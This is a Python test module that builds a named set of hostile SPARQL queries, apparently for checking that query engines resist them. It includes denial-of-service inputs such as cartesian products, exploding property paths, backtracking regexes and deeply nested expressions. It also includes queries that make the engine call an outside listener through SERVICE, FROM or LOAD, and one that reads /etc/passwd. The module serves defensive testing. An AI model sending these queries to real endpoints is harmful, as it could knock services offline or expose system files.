"""Queries that have brought SPARQL engines down, by what they try."""

# ruff: noqa: S608 - they are what they are

from collections.abc import Mapping

_PRODUCT = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i ."
_PATHS = "?a ((!<a:a>)*/(^!<a:a>)*)* ?b . ?b ((!<a:c>)+/(^!<a:c>)+)+ ?c"
_DOUBLINGS = 40


def hostile_queries(listener: str) -> Mapping[str, str]:
    """The queries. listener: the address of a server that nobody may call."""
    return {
        "product": f"SELECT (COUNT(*) AS ?n) {{ {_PRODUCT} ?j ?k ?l FILTER(?a != ?d) }}",
        "product in order": f"SELECT * {{ {_PRODUCT} }} ORDER BY ?c ?f ?i",
        "product of products": f"SELECT DISTINCT ?a ?f {{ {_PRODUCT} {{ SELECT * {{ {_PRODUCT} }} }} }}",
        "product in one text": f"SELECT (GROUP_CONCAT(CONCAT(STR(?c), STR(?f))) AS ?all) {{ {_PRODUCT} }}",
        "all paths": "SELECT (COUNT(*) AS ?n) { ?a (!<a:a>|^<a:a>)* ?b . ?b (!<a:b>|^!<a:b>)* ?c }",
        "paths of paths": f"SELECT * {{ {_PATHS} }} ORDER BY ?a",
        "text doubled": _doubled("CONCAT({0}, {0})"),
        "text replaced": _doubled('REPLACE({0}, "a", "aaaa")'),
        "expression that backtracks": _regex('"(a*)*(a|aa)+(a|a?)+b"'),
        "expression that grows": _regex('"((((a{1,99}){1,99}){1,99}){1,99}){1,99}"'),
        "5,000 parentheses": f"SELECT ({'(' * 5000}1{')' * 5000} AS ?x) {{}}",
        "20,000 groups": f"SELECT * {'{' * 20_000}{'}' * 20_000}",
        "5,000 negations": f"SELECT * {{ ?s ?p ?o FILTER({'!' * 5000}?o) }}",
        "30,000 additions": f"SELECT ({'1+' * 30_000}1 AS ?x) {{}}",
        "800 optionals": f"SELECT * {{ ?s ?p ?o {_repeated('OPTIONAL {{ ?s <a:{0}> ?o{0} }}', 800)} }}",
        "800 unions": f"SELECT * {{ {{}} {_repeated('UNION {{ ?s{0} ?p ?o }}', 800)} {_PRODUCT} }}",
        "20,000 triple patterns": f"SELECT * {{ ?s ?p ?o{',?o' * 20_000} }}",
        "4,000 joined patterns": f"SELECT * {{ {_repeated('?s{0} ?p ?o.', 4000)} }}",
        "service": f"SELECT * {{ SERVICE <{listener}> {{ ?s ?p ?o }} }}",
        "service, silent": f"SELECT * {{ {{ SELECT * {{ SERVICE SILENT <{listener}> {{ ?s ?p ?o }} }} }} }}",
        "service of any name": f"SELECT * {{ VALUES ?x {{ <{listener}> }} SERVICE ?x {{ ?s ?p ?o }} }}",
        "from a file": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
        "from an address": f"SELECT * FROM <{listener}> FROM NAMED <{listener}> {{ ?s ?p ?o }}",
        "load": f"LOAD <{listener}>",
        "load after a query": f"ASK {{}} ; LOAD <{listener}>",
    }


def _doubled(by: str) -> str:
    binds = [f"BIND({by.format(f'?t{each}')} AS ?t{each + 1})" for each in range(_DOUBLINGS)]
    bound = " ".join(['BIND("aaaaaaaaaaaaaaaa" AS ?t0)', *binds])
    return f"SELECT (STRLEN(?t{_DOUBLINGS}) AS ?n) {{ {bound} }}"


def _regex(pattern: str) -> str:
    text = f'CONCAT("{"a" * 5000}", STR(?o), STR(?c))'
    return f"SELECT * {{ ?s ?p ?o . ?a ?b ?c FILTER(REGEX({text}, {pattern})) }}"


def _repeated(text: str, count: int) -> str:
    return " ".join(text.format(each) for each in range(count))
